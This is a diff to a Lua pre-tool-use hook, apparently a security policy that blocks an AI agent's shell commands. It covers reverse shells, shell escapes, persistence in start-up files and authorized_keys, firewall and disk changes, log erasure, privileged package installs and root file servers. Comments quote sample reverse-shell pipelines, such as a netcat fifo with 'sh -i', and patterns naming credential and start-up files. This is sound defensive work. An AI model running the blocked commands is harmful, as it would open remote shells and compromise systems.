   man = "^(?:-P|--pager|-H|--html)",
@@ -556,12 +961,20 @@ local function root_shell(c)
     -- a script file is not read
     if c.inline then
       return any_arg(c, SHELL_REF)
-        or any_arg(c, "(?i)pty|os\\.(?:system|exec|spawn|popen)|subprocess|exec|system\\s*\\(")
+        or any_arg(c, "(?i)pty|os\\.(?:system|exec|spawn|popen)|subprocess|exec|system\\s*\\(|dlopen|loadlibrary|cdll|fiddle|" ..
+          "proc_open|popen|passthru|spawn")
     end
     return not c.script and not c.pipe_in
   end
   if INTERACTIVE[n] then return true end
   if n == "git" and git_escape(c) then return true end
+  -- a privileged program loading a library of the caller's (curl --engine
+  -- x.so, openssl req -engine, mysql --default-auth, bash's enable -f)
+  if any_arg(c, "(?i)^--?engine(?:=|$)|^--(?:default-auth|plugin-dir)(?:=|$)|dlopen|loadlibrary|cdll|fiddle")
+    or (n == "enable" and flag(c, "f", nil)) then
+    return true
+  end
+  if escape(c) then return true end
   local opts = RUNS_PROGRAM[n]
   if opts and any_arg(c, opts) then return true end
   if n == "nmap" and any_arg(c, "^--(?:interactive|script)") then return true end
@@ -627,17 +1040,20 @@ local function persistence(c, cwd)
     local _, ts = operands(c)
     return #ts >= 2 or flag(c, nil, "add del")
   end
+  -- a shell start-up file named by a program that may write it (gawk
+  -- 'BEGIN { print "x" > "~/.bashrc" }', sort -o ~/.bashrc, nmap -oG=…)
+  if mentions(c, STARTUP_RE) or writes_guarded(c, STARTUP_RE) then return true end
   return has_outside(c, cwd) and touches(c, cwd, function(abs)
     local p = "/" .. abs .. "/"
     for _, u in ipairs(UNIT_PLACES) do
       if p:find(u) then return true end
     end
-    return false
+    return startup(abs)
   end)
 end
 
 local function ssh_keys(c, cwd)
-  if c.name == "ssh-copy-id" then return true end
+  if c.name == "ssh-copy-id" or mentions(c, AUTHKEYS_RE) or writes_guarded(c, AUTHKEYS_RE) then return true end
   for _, t in ipairs((outside(c, cwd))) do
     local w = t[1]
     if w.text:find("authorized_keys2?$") then
@@ -700,7 +1116,8 @@ local function firewall(c)
       end
     end
   elseif n == "pfctl" then
-    return flag(c, "dF", "disable flush")
+    -- off, flushed, or rules loaded (pfctl -f FILE, pfctl -a anchor -f -); -n only parses
+    return flag(c, "dF", "disable flush") or (flag(c, "f", "file") and not flag(c, "n", "noaction"))
   elseif n == "netsh" then
     for _, a in ipairs(c.args) do
       if a.text:lower():find("firewall") then
@@ -717,6 +1134,29 @@ local function disks(c)
   local n = c.name
   if danger.formats_disk(c) or danger.writes_disk(c) then
     return not (n == "wipefs" and not flag(c, "ao", "all offset"))
+  end
+  if n == "btrfs" then
+    -- a device removed, replaced or added, a repair, a resize, a rescue
+    local _, ts = operands(c)
+    local a, b = ts[1] or "", ts[2] or ""
+    return (a:find("^dev") and (b:find("^rem") or b:find("^del") or b:find("^rep") or b:find("^add"))) ~= nil
+      or (a:find("^che") ~= nil and flag(c, nil, "repair init-csum-tree init-extent-tree clear-space-cache"))
+      or a:find("^resc") ~= nil or (a:find("^fi") ~= nil and b:find("^resi") ~= nil)
+  elseif n == "nbd-client" then
+    return flag(c, "dD", "disconnect")
+  elseif n == "pvmove" or n == "pvcreate" or n == "vgreduce" or n == "vgsplit" or n == "vgmerge" or n == "resize2fs"
+    or n == "xfs_repair" then
+    return not flag(c, "n", "help version")
+  elseif n == "losetup" then
+    return flag(c, "dD", "detach detach-all")
+  elseif n == "tune2fs" then
+    return not flag(c, "l", "help")
+  elseif n == "e2fsck" or n == "fsck" or n:find("^fsck%.") then
+    -- a repair of a device; -n only reads
+    for _, a in ipairs(c.args) do
+      if a.text:sub(1, 1) == "/" and paths.clean(a.text):find("^/dev/") then return not flag(c, "nN", "help") end
+    end
+    return false
   end
   if not PARTITIONERS[n] then return false end
   local _, ts = operands(c)
@@ -739,6 +1179,7 @@ local function disks(c)
     return false
   elseif n == "diskutil" then
     local v = ts[1] or ""
+    if v == "quiet" then v = ts[2] or "" end
     return v:find("^erase") ~= nil or v:find("^partition") ~= nil or v:find("^zero") ~= nil
       or v:find("^secure") ~= nil or v == "apfs" and (ts[2] or ""):find("^delete") ~= nil
   elseif n == "mdadm" then
@@ -893,6 +1334,16 @@ local function stops(c, services)
     end
     return hit
   end
+  if n == "sysrc" then
+    -- FreeBSD: sysrc NAME_enable=NO keeps the service off at boot
+    local _, ts = operands(c)
+    for _, t in ipairs(ts) do
+      local name, v = t:match("^([%w_.-]+)_enable%+?=(.*)$")
+      v = v and v:gsub("[\"']", "")
+      if name and services[unit(name)] and (v == "no" or v == "false" or v == "off" or v == "0") then return true end
+    end
+    return false
+  end
   if not (n == "service" or n == "rc-service" or n == "update-rc.d" or n == "chkconfig" or n == "rc-update"
     or (c.word and c.word.text:find("^/etc/init%.d/"))) then
     return false
@@ -906,12 +1357,30 @@ local function stops(c, services)
   return false
 end
 
-local function security_services(c) return stops(c, SECURITY) end
+local function security_services(c)
+  local n = c.name
+  if n == "mdatp" then
+    -- Microsoft Defender for Endpoint (Linux, macOS): a protection set off,
+    -- an exclusion added, the agent removed
+    local _, ts = operands(c)
+    local j = table.concat(ts, " ")
+    return (j:find("^config") ~= nil and (j:find("disabled") ~= nil or j:find(" off") ~= nil or j:find("false") ~= nil))
+      or (j:find("^exclusion") ~= nil and j:find(" add") ~= nil) or ts[1] == "uninstall"
+  end
+  return stops(c, SECURITY)
+end
 local function services(c) return stops(c, CRITICAL) end
 
 local function logs(c, cwd)
   local n = c.name
-  if n == "journalctl" then
+  if n == "log" then
+    -- macOS's unified log: log erase
+    local _, ts = operands(c)
+    return ts[1] == "erase"
+  elseif n == "osascript" then
+    -- AppleScript deleting a log file (do shell script "rm /var/log/…", Finder's delete)
+    return any_arg(c, "(?i)(?:/private)?/var/log|/Library/Logs") and any_arg(c, "(?i)\\b(?:rm|delete|truncate|mv|shred)\\b")
+  elseif n == "journalctl" then
     return any_arg(c, "^--vacuum")
   elseif n == "dmesg" then
     return flag(c, "cC", "clear read-clear")
@@ -923,7 +1392,7 @@ local function logs(c, cwd)
 end
 
 -- A host that is the machine itself.
-local function loopback(h)
+function loopback(h)
   h = h:lower()
   return h == "localhost" or h:find("^127%.") ~= nil or h == "::1" or h == "0.0.0.0" or h == "[::1]"
 end
@@ -977,10 +1446,11 @@ local function reverse_shell(c, cwd, ctx)
     if re.match(SOCKET_CODE, code) and re.match(EXEC_CODE, code) then return true end
   end
   -- a shell and a raw network client in one pipeline (mkfifo f; cat f | sh -i | nc h p > f)
-  if c.pipeline and (NETCAT[n] or (SHELLS[n] and c.reads_stdin and not c.script)) then
+  -- (a shell reading its pipe, or an interactive one: sh -i < fifo | openssl s_client …)
+  if c.pipeline and (NETCAT[n] or (SHELLS[n] and c.reads_stdin and (not c.script or flag(c, "i", nil)))) then
     for _, o in ipairs(ctx.cmds) do
       if o ~= c and o.pipeline == c.pipeline and o.depth == c.depth and o.name then
-        if NETCAT[n] and SHELLS[o.name] and o.reads_stdin and not o.script then return true end
+        if NETCAT[n] and SHELLS[o.name] and o.reads_stdin and (not o.script or flag(o, "i", nil)) then return true end
         if SHELLS[n] and NETCAT[o.name] then return true end
       end
     end
@@ -1049,6 +1519,41 @@ local function system_files(c, cwd)
   end)
 end
 
+-- package_file: a package file of the caller's installed with privilege
+-- (sudo dpkg -i x.deb, sudo rpm -ivh x.rpm, sudo yum localinstall x.rpm,
+-- sudo apt install ./x.deb): its scripts run as root and are not read.
+-- Packages from the configured repositories are the packages pack's.
+local PKG_FILE = "(?i)\\.(?:deb|rpm|apk|pkg|pkg\\.tar\\.(?:zst|xz|gz)|snap|msi)$"
+local function package_file(c)
+  if not privileged(c) then return false end
+  local n = c.name
+  if n == "dpkg" then
+    return flag(c, "i", "install unpack")
+  elseif n == "rpm" then
+    return flag(c, "iUF", "install upgrade freshen reinstall") and not flag(c, "qVe", "query verify erase")
+  elseif n == "yum" or n == "dnf" or n == "zypper" or n == "apt" or n == "apt-get" or n == "pacman" or n == "snap"
+    or n == "installer" or n == "pkg" then
+    return any_arg(c, PKG_FILE) or (n == "yum" and any_arg(c, "^local(?:install|update)$"))
+      or (n == "snap" and flag(c, nil, "dangerous devmode"))
+  end
+  return false
+end
+
+-- root_server: a file server or proxy run with privilege, which hands
+-- root's files (or the cluster's API) to whoever connects: php -S, ruby
+-- -run -e httpd, busybox httpd, python -m http.server, kubectl proxy.
+local function root_server(c)
+  if not privileged(c) then return false end
+  local n = c.name or ""
+  if n == "php" or n:find("^php%d") then return flag(c, "S", nil) end
+  if n == "httpd" or n == "webfsd" or n == "darkhttpd" or n == "http-server" then return true end
+  if n == "kubectl" then return select(2, operands(c))[1] == "proxy" end
+  if shell.interpreter(n) then
+    return any_arg(c, "^(?:-run|http\\.server|SimpleHTTPServer|httpd)$") and any_arg(c, "^(?:-m|-run|-e|httpd|http\\.server|SimpleHTTPServer)$")
+  end
+  return false
+end
+
 local rules = {
   { name = "reverse-shell", check = reverse_shell, why = "a reverse shell (a shell wired to a network connection)",
     instead = "do not open shells to the network; ask the user if you need remote access" },
@@ -1090,6 +1595,10 @@ local rules = {
     instead = "ask the user to do it" },
   { name = "root-shell", check = root_shell, why = "a root shell or a privileged program's shell escape",
     instead = "run the one command you need, non-interactively, and only with the privilege it needs" },
+  { name = "package-file", check = package_file, why = "installing a package file with root's rights (its scripts run as root)",
+    instead = "install packages from the system's repositories, or ask the user to install the file" },
+  { name = "root-server", check = root_server, why = "serving files or an API proxy with root's rights",
+    instead = "run the server as yourself, from the project's folder" },
   { name = "system-files", check = system_files, why = "writing, moving or deleting system files",
     instead = "work inside the project; tell the user which system file to change and how" },
 }
@@ -1116,8 +1625,11 @@ do
     "stop-computer", "restart-computer", "set-mppreference", "add-mppreference", "new-localuser",
     "remove-localuser", "set-localuser", "enable-localuser", "rename-localuser", "add-localgroupmember",
     "remove-localgroupmember", "new-localgroup", "remove-localgroup", "pwsh", "powershell", "pwsh.exe",
-    "powershell.exe", "cmd", "cmd.exe", "mv", "cp", "ln", "rsync", "scp", "tee", "touch", "truncate", "sed", "gsed", "dd" }
-  for _, set_ in ipairs({ ACCOUNT_TOOLS, REMOVERS, CHANGERS, IPTABLES, PARTITIONERS, NETCAT }) do
+    "powershell.exe", "cmd", "cmd.exe", "mv", "cp", "ln", "rsync", "scp", "tee", "touch", "truncate", "sed", "gsed", "dd",
+    "run-parts", "cpan", "sysrc", "mdatp", "log", "pvmove", "pvcreate", "vgreduce", "vgsplit", "vgmerge", "nbd-client",
+    "losetup", "xfs_repair", "e2fsck", "fsck", "fsck.ext4", "resize2fs", "tune2fs", "samba-tool" }
+  for _, set_ in ipairs({ ACCOUNT_TOOLS, LDAP_CHANGERS, REMOVERS, CHANGERS, IPTABLES, PARTITIONERS, NETCAT, SHELL_DEFAULT,
+    ESCAPE_PROGRAMS, INTERACTIVE }) do
     for k in pairs(set_) do names[#names + 1] = k end
   end
   for _, k in ipairs(names) do PROGRAMS[#PROGRAMS + 1] = re.quote(k) end
@@ -1125,7 +1637,13 @@ do
   PROGRAMS[#PROGRAMS + 1] = "ip6?tables-[a-z-]+"
   table.sort(PROGRAMS)
 end
-local _, QUICK_MAX, QUICK_STOP = shell.quick({ programs = { PROGRAMS }, words = "/dev/|/inet|/etc/init\\.d/" })
+-- words: raw sockets, init scripts, a shell named as a word (yarn exec
+-- /bin/sh), the guarded files' names, the variables escape_vars reads
+local _, QUICK_MAX, QUICK_STOP = shell.quick({ programs = { PROGRAMS }, words = "/dev/|/inet|/etc/init\\.d/|" ..
+  "(?:^|[ /=:,])" .. SHELL_NAMES .. "(?:$|[ ,])|\\.(?:bash|zsh|ksh|mksh|csh|tcsh)rc|\\.(?:bash_)?(?:profile|login|logout)|" ..
+  "\\.z(?:shenv|profile|login|logout)|/etc/(?:profile|bashrc|bash\\.bashrc|zsh|environment|csh)|config\\.fish|" ..
+  "pam_environment|xinitrc|xsessionrc|xprofile|sudoers|doas\\.conf|authorized_keys|LESSOPEN|LESSCLOSE|PERL5|" ..
+  "BASH_ENV|ENV=|ZDOTDIR|PAGER=|EDITOR=|VISUAL=|PROMPT_COMMAND|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF" })
 
 -- PowerShell: the PowerShell tool's command, pwsh/powershell -c in a shell
 -- line, and a line of another tool that reads as PowerShell (pwsh.looks)
@@ -1187,6 +1705,16 @@ local function deny(r)
   return hook.deny("system pack: blocked " .. r.why .. " [rule " .. r.name .. "]; " .. r.instead .. ".")
 end
 
+-- ESCAPES is the shell-escape rule's verdict (SETTINGS.escapes; "allow" or
+-- the rule named in allow turns it off).
+local ESCAPES = not ALLOWED["shell-escape"] and SETTINGS.escapes ~= "allow" and SETTINGS.escapes or nil
+local ESCAPE_REASON = "a shell started where no hook sees what it runs (an interactive shell, or a program told " ..
+  "to start one) [rule shell-escape]; run the commands you need on the command line itself, or ask the user."
+local function escaped()
+  if ESCAPES == "deny" then return hook.deny("system pack: blocked " .. ESCAPE_REASON) end
+  return hook.ask("system pack: asking about " .. ESCAPE_REASON)
+end
+
 hook.register("PreToolUse", "@shell", function(input)
   -- The command line, read here as shell.command reads it: a hook that
   -- hands no table of its input to another function keeps the input's
@@ -1213,10 +1741,13 @@ hook.register("PreToolUse", "@shell", function(input)
   local cmds, err = shell.parse(line)
   local ctx = { cmds = cmds }
   local ps = false
+  -- a shell escape is asked about once every command passed the rules
+  local pending = ESCAPES and escape_vars(line)
   for _, c in ipairs(cmds) do
     for _, r in ipairs(active) do
       if r.check(c, cwd, ctx) then return deny(r) end
     end
+    if ESCAPES and not pending then pending = escape(c) or written_escape(c) end
     ps = ps or PWSH_NAMES[c.name or ""] == true
     if pwsh.CMD[c.name or ""] then
       -- cmd /c net user … /add
@@ -1241,4 +1772,5 @@ hook.register("PreToolUse", "@shell", function(input)
     return hook.deny("system pack: blocked a command that could not be checked (" .. err ..
       ") [rule parse]; split it into shorter commands.")
   end
+  if pending then return escaped() end
 end, { name = "pack-system", stage = "validate", timeout_ms = 1000, failure_policy = "closed", policy = true })
